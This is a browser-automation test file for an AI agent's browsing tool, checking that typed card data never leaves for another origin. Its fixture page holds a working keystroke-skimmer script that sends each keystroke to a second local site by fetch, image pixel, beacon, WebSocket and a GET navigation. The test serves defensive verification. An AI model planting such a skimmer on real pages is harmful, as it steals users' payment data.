/**
 * Data typed into a page goes only where it was typed (issue 31, class 7), in real Chromium: a
 * page whose script sends what is typed to another site on every keystroke (a POST, an image, a
 * beacon, a WebSocket opened before the typing), and a plain button that navigates there with
 * the data in a GET query, reach that site with nothing — encoded or not —, while the page's own
 * site still gets what its script sends it. The browser's calls declare where they send, as
 * origins, and opening another site after typing starts a fresh browser.
 */
import assert from "node:assert/strict";
import { needing } from "../helpers/system_parts.ts";
import { type PageServer, servePages, withBrowserPages } from "../helpers/browser_pages.ts";
import { chatRunContext } from "../helpers/browser_pages.ts";
import { call } from "./tool_harness.ts";

const card = "4111 1111 1111 1111";

/** Another site on 127.0.0.1 (another port: another origin) that records what reaches it. */
function sink(): PageServer & { messages: string[] } {
  const messages: string[] = [];
  const server = servePages({
    "/socket": (request) => {
      const { socket, response } = Deno.upgradeWebSocket(request);
      socket.onmessage = (event) => messages.push(String(event.data));
      return response;
    },
    "/": "<p>The other site.</p>",
  });
  return { ...server, messages };
}

/** A checkout page whose script leaks every keystroke to `elsewhere`. */
function leakyPage(elsewhere: string): string {
  const socket = elsewhere.replace("http", "ws");
  return `<!doctype html><html><head><title>Checkout</title></head><body>
<form method="post" action="/pay">
  <label>Card number <input name="card"></label>
  <button type="button" id="next"
    onclick="location = '${elsewhere}/search?q=' + encodeURIComponent(this.form.card.value)">Next</button>
</form>
<p id="socket">socket: connecting</p>
<script>
  const socket = new WebSocket("${socket}/socket");
  socket.onopen = () => document.getElementById("socket").textContent = "socket: open";
  const field = document.querySelector("[name=card]");
  field.addEventListener("input", () => {
    const typed = field.value;
    fetch("${elsewhere}/collect", { method: "POST", mode: "no-cors", body: btoa(typed) }).catch(() => {});
    new Image().src = "${elsewhere}/pixel?d=" + btoa(typed.split("").reverse().join(""));
    try { navigator.sendBeacon("${elsewhere}/beacon", typed); } catch {}
    try { socket.send(typed); } catch {}
    fetch("/draft", { method: "POST", body: typed }).catch(() => {});
  });
</script></body></html>`;
}

Deno.test(needing(["chromium"], {
  name:
    "typed data goes only to the page's own site: a keystroke script and a GET button reach another site with nothing",
}, async () => {
  const other = sink();
  const pages = {
    "/checkout": leakyPage(other.origin),
    "/draft": () => new Response("saved"),
  };
  try {
    await withBrowserPages(pages, async ({ tool, server, sessions }) => {
      const context = chatRunContext(7);
      const opened = await call(
        tool,
        { action: "open", url: `${server.origin}/checkout` },
        context,
      );
      assert.equal(opened.outcome, "ok", opened.text);
      // Before anything is typed the page may reach the other site: its socket opened.
      let page = opened.text;
      for (let attempt = 0; attempt < 30 && !/socket: open/.test(page); attempt++) {
        await new Promise((resolve) => setTimeout(resolve, 100));
        page = (await call(tool, { action: "read" }, context)).text;
      }
      assert.match(page, /socket: open/);
      const before = other.seen.length;

      // Typing sends to the page's site: the browser call declares that origin.
      const declared = tool.destinations!({ action: "fill", values: { f1: card } }, {
        conversationId: 7,
      });
      assert.deepEqual(declared, [server.origin]);
      assert.equal(
        tool.destinations!({ action: "fill", values: { f1: card } }),
        "anywhere",
        "without the conversation the page is not known",
      );

      const filled = await call(tool, { action: "fill", values: { f1: card } }, context);
      assert.equal(filled.outcome, "ok", filled.text);
      assert.match(
        filled.text,
        new RegExp(
          `Not sent \\(data typed here may go only to ${server.origin}\\): POST ${other.origin}/collect`,
        ),
      );
      const clicked = await call(tool, { action: "click", ref: "b1" }, context);
      assert.match(clicked.text, new RegExp(`GET ${other.origin}/search\\?q=4111`), clicked.text);
      assert.match(clicked.text, /Page: http:\/\/127\.0\.0\.1:\d+\/checkout/, clicked.text);

      // Nothing after the typing reached the other site, in any encoding, by any way.
      await new Promise((resolve) => setTimeout(resolve, 500));
      assert.deepEqual(other.seen.slice(before), []);
      assert.deepEqual(other.messages, []);
      // The page's own site got its draft: typing there is sending there.
      const drafts = server.seen.filter((request) => request.path === "/draft");
      assert.ok(drafts.some((request) => request.body === card), JSON.stringify(server.seen));

      // Another site after typing: a fresh browser, which may reach it.
      assert.deepEqual(
        tool.destinations!({ action: "open", url: `${other.origin}/` }, { conversationId: 7 }),
        [other.origin],
      );
      const elsewhere = await call(tool, { action: "open", url: `${other.origin}/` }, context);
      assert.equal(elsewhere.outcome, "ok", elsewhere.text);
      assert.match(elsewhere.text, /^\[A fresh browser: what was typed on the last site stays/);
      assert.match(elsewhere.text, /The other site\./);
      assert.equal(sessions.open, 1);
    });
  } finally {
    await other.close();
  }
}));
